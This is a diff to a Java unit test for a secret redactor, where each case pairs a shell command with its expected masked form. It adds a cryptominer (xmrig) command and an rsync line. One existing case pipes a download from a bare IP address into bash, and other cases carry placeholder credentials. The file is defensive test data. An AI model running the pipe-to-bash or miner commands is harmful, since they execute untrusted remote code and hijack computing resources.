@@ -16,6 +16,8 @@ class SecretRedactorTest {
         "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG && aws s3 ls => export AWS_SECRET_ACCESS_KEY=**** && aws s3 ls",
         "curl -H 'Authorization: Bearer eyJhbGciOi.x.y' https://x => curl -H 'Authorization: Bearer ****' https://x",
         "git clone https://bot:ghp_abc123@github.example.com/r.git => git clone https://bot:****@github.example.com/r.git",
+        "xmrig -o pool.example:3333 -u wallet --pass=worker1 => xmrig -o pool.example:3333 -u wallet --pass=****",
+        "rsync --passthrough-flag src dst => rsync --passthrough-flag src dst",
         "curl -s http://203.0.113.9/x | bash => curl -s http://203.0.113.9/x | bash"
       })
   void masksTheSecretAndKeepsTheShape(String in, String expected) {
